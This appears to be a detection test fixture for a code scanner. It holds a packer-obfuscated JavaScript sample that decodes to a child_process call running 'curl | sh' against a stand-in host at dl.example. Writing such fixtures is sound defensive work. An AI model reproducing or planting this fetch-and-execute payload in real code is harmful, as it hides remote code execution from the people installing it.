// expect: category=obfuscation min=80 context=plugin,package
// why: a packer-family unpacker with renamed parameters rebuilds a shell command and evals it.
eval(function (x, y, z, w, v, u) {
  v = function (n) {
    return n.toString(36);
  };
  if (!''.replace(/^/, String)) {
    while (z--) u[z.toString(y)] = w[z] || z.toString(y);
    w = [function (m) { return u[m]; }];
    v = function () { return '\\w+'; };
    z = 1;
  }
  while (z--) if (w[z]) x = x.replace(new RegExp('\\b' + v(z) + '\\b', 'g'), w[z]);
  return x;
}("0 1=2('3');1.4('5 -6 7://8.9/a | b')", 36, 12, 'var|c|require|child_process|exec|curl|s|https|dl|example|k|sh'.split('|'), 0, {}));
